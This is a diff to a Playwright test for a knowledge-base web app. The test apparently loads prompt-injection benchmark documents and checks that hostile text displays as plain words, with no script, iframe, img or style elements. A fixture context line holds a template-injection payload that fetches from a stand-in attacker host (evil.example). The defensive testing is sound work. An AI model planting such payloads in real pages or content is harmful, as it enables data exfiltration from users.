@@ -15,7 +15,9 @@ from urllib.request import Request, urlopen
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from kb import KnowledgeBase, Settings
+from benchmarks.injection import injections, library
+from kb import KnowledgeBase
+from kb.evaluation.splits import LOOK
 from tests.fakes import FakeEncoder
 from tests.screenshots import ask, running_page
 from ui import guard
@@ -488,19 +490,23 @@ and build nests of straw {{value}} ${fetch('http://evil.example/f')}.
 """
 
 
-def test_a_hostile_document_is_shown_as_the_words_it_is(opened: Opened, tmp_path: Path) -> None:
+def test_hostile_documents_are_shown_as_the_words_they_are(opened: Opened, tmp_path: Path) -> None:
+    texts = [text for text in injections(LOOK) if text.kind in ("markup", "exfiltrate")]
+    base = library(texts, tmp_path, FakeEncoder())
     (tmp_path / "birds.md").write_text(BEACONS, encoding="utf-8")
-    base = KnowledgeBase.build(
-        [tmp_path / "birds.md"], tmp_path / "index", settings=Settings(index=tmp_path / "index"), encoder=FakeEncoder()
-    )
+    base.add([tmp_path / "birds.md"])
     with running_page(base) as address:
         page = opened("en", at=address)
+        for text in texts[::4]:
+            ask(page, text.question)
         ask(page, "When do birds sing at dawn and build nests of straw?")
         go(page, "library")
-        page.locator("#documents .title a").click()
+        expect(page.locator("#documents .title a")).to_have_count(len(texts) + 1)
+        page.locator('#documents .title a[href*="birds"]').click()
         expect(page.locator("#pane .text")).to_contain_text("nests of straw")
-        assert page.locator("#pane .text").locator("img, svg, style").count() == 0
-        assert page.locator(".turn").locator("img, style").count() == 0
+        assert page.locator("#pane .text").locator("img, svg, style, script, iframe").count() == 0
+        assert page.locator(".turn, #documents").locator("img, style, script, iframe").count() == 0
+        assert page.title().endswith(MESSAGES["product"]["en"])
 
 
 # -------------------------------------------------------------------------------------------------------- the server
